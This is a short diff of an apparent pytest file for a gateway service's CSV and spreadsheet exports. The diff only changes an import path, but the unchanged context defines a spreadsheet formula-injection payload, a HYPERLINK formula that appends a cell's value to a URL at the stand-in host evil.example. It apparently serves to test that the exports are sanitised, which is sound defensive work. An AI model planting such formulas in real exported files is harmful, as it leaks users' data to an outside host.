@@ -8,7 +8,7 @@ import pytest
 
 from services.gateway import attestation, spreadsheet
 from services.gateway.api.contracts import cnaf_csv
-from services.gateway.api.volunteers import hours_csv
+from services.gateway.volunteer_hours import hours_csv
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
 
